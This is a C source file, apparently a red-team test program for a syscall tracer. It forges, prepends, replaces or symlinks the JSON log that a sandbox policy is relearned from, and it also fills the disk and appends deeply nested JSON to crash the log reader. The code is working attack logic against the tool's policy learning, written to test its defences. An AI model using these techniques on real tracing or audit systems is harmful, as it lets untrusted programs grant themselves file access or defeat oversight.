/* log_forge.c: a program writes records of its own into the log a policy is learned from
 * (issue 11, red team 29; class 6, the tracer's own writes -- what systrace reads after a run).
 *
 * `systrace -A --log run.jsonl -o p.toml -- cmd` writes the policy it learned and, in the log,
 * one record per observation; `systrace policy learn run.jsonl` builds the same policy from
 * it again, or another with other settings -- from every syscall record of the file.  The log
 * is an ordinary file of the user's, often in the work directory the program may write, and
 * during a learning run the program may write anything: a record it appends is learned as
 * if it had made the call.  The user reviewed p.toml; the policy rebuilt from the log grants
 * what the run never did.
 *
 *   log_forge forge LOG PATH   appends to LOG an observation of reading PATH (it never opens
 *                              PATH); ESCAPED... only in the sense of "appended" -- its verdict
 *                              line is "BLOCKED" when LOG cannot be written, else a note
 *   log_forge replace LOG PATH makes a whole log of its own -- a start record, the same
 *                              observation, an end record with the digest of its lines (no
 *                              secret is in it: sha256sum computes it) -- and renames it to
 *                              LOG; the run's own records go on to the file it replaced
 *   log_forge unended LOG PATH   the same with no end record (a run that was killed: read
 *                              with a warning)
 *   log_forge readonly LOG PATH  as replace, the made-up log mode 0444 (its owner's write
 *                              permission taken away: an unprivileged tracer cannot append)
 *   log_forge link LOG PATH    the same log, with its end, left at LOG.made and a symlink to
 *                              it renamed to LOG
 *   log_forge blank LOG PATH   as replace, the made-up log's first line empty (review 17: the
 *                              run looked only at a first line for a start record before it
 *                              appended its disowned record; a reader skips empty lines)
 *   log_forge long LOG PATH    as replace, the start record longer than 64 KiB (its argv: the
 *                              run read 64 KiB of the first line; a reader reads it whole)
 *   log_forge fill LOG PATH FILLER  appends the observation as forge does, then fills the
 *                              file system LOG is on (FILLER, a file on it, written until
 *                              ENOSPC) and makes calls until the run's next record cannot be
 *                              written: the run fails (its tree killed) and never writes its
 *                              end -- a run with no end was read with a warning (review 17)
 *   log_forge prepend LOG PATH  a whole run of its own (start, the observation, an end with
 *                              its digest) written in place before the run's lines: the log
 *                              read, cut to nothing and written again, the made-up run first
 *                              (the same file: its name still leads to it) (review 17)
 *   log_forge deep LOG PATH    appends to LOG a line of 100000 '[' (JSON nested deeper than
 *                              Python's decoder goes: RecursionError, which no reader of a
 *                              log caught -- policy learn and policy check ended in a
 *                              traceback, review 19); PATH unused
 *   log_forge read PATH        reads PATH: ESCAPED when it holds the secret, else BLOCKED
 */
#include "attack.h"

static int observation(char *line, size_t size, const char *path) {
    return snprintf(line, size,
                    "{\"v\":2,\"event\":\"syscall\",\"pid\":%d,\"program\":\"%s\","
                    "\"syscall\":\"openat\",\"args\":{\"path\":\"%s\",\"flags\":\"O_RDONLY\"},"
                    "\"action\":\"permit\",\"result\":\"permitted\",\"rule\":null,"
                    "\"table\":\"main\",\"reason\":\"learning\",\"learned\":true,"
                    "\"observation\":{\"syscall\":\"openat\",\"paths\":[[\"path\",\"%s\"]],"
                    "\"open_flags\":0}}\n",
                    getpid(), "/proc/self/exe", path, path);
}

int main(int argc, char **argv) {
    int replace = argc == 4 && strcmp(argv[1], "replace") == 0;
    int unended = argc == 4 && strcmp(argv[1], "unended") == 0;
    int linked = argc == 4 && strcmp(argv[1], "link") == 0;
    int readonly = argc == 4 && strcmp(argv[1], "readonly") == 0;
    int blank = argc == 4 && strcmp(argv[1], "blank") == 0;
    int longer = argc == 4 && strcmp(argv[1], "long") == 0;
    replace |= readonly | blank | longer;
    if (replace || unended || linked) {
        char made[4096], line[8192], command[8400], digest[80] = "";
        snprintf(made, sizeof made, "%s.made", argv[2]);
        FILE *f = fopen(made, "w");
        if (!f)
            blocked("create %s: %s", made, ename(errno));
        if (blank)
            fputs("\n", f);
        fprintf(f, "{\"v\":2,\"event\":\"start\",\"argv\":[\"true\"");
        if (longer) {
            fputs(",\"", f);
            for (int i = 0; i < 70000; i++)
                fputc('x', f);
            fputs("\"", f);
        }
        fprintf(f, "],\"policy\":null,\"mode\":\"learn\",\"tracer\":1}\n");
        observation(line, sizeof line, argv[3]);
        fputs(line, f);
        fclose(f);
        if (!unended) {
            /* (the lines from the start record on: an empty first line is no run's) */
            snprintf(command, sizeof command, "tail -n +%d '%s' | sha256sum", blank ? 2 : 1,
                     made);
            FILE *sum = popen(command, "r");
            if (!sum || fscanf(sum, "%64s", digest) != 1)
                blocked("sha256sum %s failed", made);
            pclose(sum);
            f = fopen(made, "a");
            fprintf(f, "{\"v\":2,\"event\":\"end\",\"digest\":\"%s\"}\n", digest);
            fclose(f);
        }
        if (readonly && chmod(made, 0444) < 0)
            blocked("chmod %s: %s", made, ename(errno));
        if (linked) {
            char staged[4200];
            snprintf(staged, sizeof staged, "%s.link", argv[2]);
            if (symlink(made, staged) < 0 || rename(staged, argv[2]) < 0)
                blocked("link %s to %s: %s", argv[2], made, ename(errno));
        } else if (rename(made, argv[2]) < 0)
            blocked("rename %s to %s: %s", made, argv[2], ename(errno));
        note("replaced %s with a log of its own, vouched by its own digest", argv[2]);
        printf("FORGED\n");
        return 0;
    }
    if (argc == 4 && strcmp(argv[1], "forge") == 0) {
        int fd = open(argv[2], O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd < 0)
            blocked("open %s for appending: %s", argv[2], ename(errno));
        char line[8192];
        int n = observation(line, sizeof line, argv[3]);
        if (write(fd, line, (size_t)n) != n)
            blocked("write %s: %s", argv[2], ename(errno));
        close(fd);
        note("appended an observation of reading %s to %s", argv[3], argv[2]);
        printf("FORGED\n");
        return 0;
    }
    if (argc == 4 && strcmp(argv[1], "deep") == 0) {
        int fd = open(argv[2], O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd < 0)
            blocked("open %s for appending: %s", argv[2], ename(errno));
        static char line[100001];
        memset(line, '[', sizeof line - 1);
        line[sizeof line - 1] = '\n';
        if (write(fd, line, sizeof line) != (ssize_t)sizeof line)
            blocked("write %s: %s", argv[2], ename(errno));
        close(fd);
        note("appended a line of nested '[' to %s", argv[2]);
        printf("FORGED\n");
        return 0;
    }
    if (argc == 5 && strcmp(argv[1], "fill") == 0) {
        int fd = open(argv[2], O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd < 0)
            blocked("open %s for appending: %s", argv[2], ename(errno));
        char line[8192];
        int n = observation(line, sizeof line, argv[3]);
        if (write(fd, line, (size_t)n) != n)
            blocked("write %s: %s", argv[2], ename(errno));
        close(fd);
        int filler = open(argv[4], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
        if (filler < 0)
            blocked("create %s: %s", argv[4], ename(errno));
        static char block[65536];
        for (size_t size = sizeof block; size > 0; size /= 2)
            while (write(filler, block, size) == (ssize_t)size) {}
        if (errno != ENOSPC)
            blocked("fill %s: %s, not ENOSPC", argv[4], ename(errno));
        close(filler);
        note("appended an observation of reading %s to %s and filled its file system",
             argv[3], argv[2]);
        printf("FORGED\n");
        fflush(stdout);
        for (int i = 0; i < 10000; i++) {  /* (each a record of its own, until one fails) */
            char name[64];
            snprintf(name, sizeof name, "/log-forge-fill-%d", i);
            int probe = open(name, O_RDONLY | O_CLOEXEC);
            if (probe >= 0)
                close(probe);
        }
        return 0;
    }
    if (argc == 4 && strcmp(argv[1], "prepend") == 0) {
        char made[4096], line[8192], command[8400], digest[80] = "";
        snprintf(made, sizeof made, "%s.made", argv[2]);
        FILE *f = fopen(made, "w");
        if (!f)
            blocked("create %s: %s", made, ename(errno));
        fprintf(f, "{\"v\":2,\"event\":\"start\",\"argv\":[\"true\"],\"policy\":null,"
                   "\"mode\":\"learn\",\"tracer\":1,\"ends\":\"sha256\"}\n");
        observation(line, sizeof line, argv[3]);
        fputs(line, f);
        fclose(f);
        snprintf(command, sizeof command, "sha256sum '%s'", made);
        FILE *sum = popen(command, "r");
        if (!sum || fscanf(sum, "%64s", digest) != 1)
            blocked("sha256sum %s failed", made);
        pclose(sum);
        f = fopen(made, "a");
        fprintf(f, "{\"v\":2,\"event\":\"end\",\"digest\":\"%s\"}\n", digest);
        fclose(f);
        static char fake[16384], real[1 << 20];
        int mfd = open(made, O_RDONLY | O_CLOEXEC);
        ssize_t nfake = mfd < 0 ? -1 : read(mfd, fake, sizeof fake);
        /* each call of the rewrite made once before it (a learning run logs a call the
         * first time it is seen) */
        if (mfd < 0 || pread(mfd, real, 1, 0) < 0)
            blocked("read %s: %s", made, ename(errno));
        int warm = open(made, O_RDWR | O_CLOEXEC);
        if (warm < 0 || ftruncate(warm, nfake) < 0 || pwrite(warm, fake, 1, 0) != 1)
            blocked("rewrite %s: %s", made, ename(errno));
        close(warm);
        int fd = open(argv[2], O_RDWR | O_CLOEXEC);
        if (nfake <= 0 || fd < 0)
            blocked("open %s: %s", argv[2], ename(errno));
        /* (no call the tracer logs from here to the write: its lines stay as they are) */
        ssize_t nreal = pread(fd, real, sizeof real, 0);
        if (nreal < 0 || ftruncate(fd, 0) < 0 || pwrite(fd, fake, (size_t)nfake, 0) != nfake ||
            pwrite(fd, real, (size_t)nreal, nfake) != nreal)
            blocked("rewrite %s: %s", argv[2], ename(errno));
        close(fd);
        note("wrote a run of its own before the run's lines in %s", argv[2]);
        printf("FORGED\n");
        return 0;
    }
    if (argc == 3 && strcmp(argv[1], "read") == 0) {
        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            blocked("open %s: %s", argv[2], ename(errno));
        if (is_secret_fd(fd))
            escaped("read the secret %s", argv[2]);
        blocked("%s is no secret", argv[2]);
    }
    usage("log_forge forge|replace|unended|readonly|link|blank|long|prepend LOG PATH"
          " | fill LOG PATH FILLER"
          " | read PATH");
}
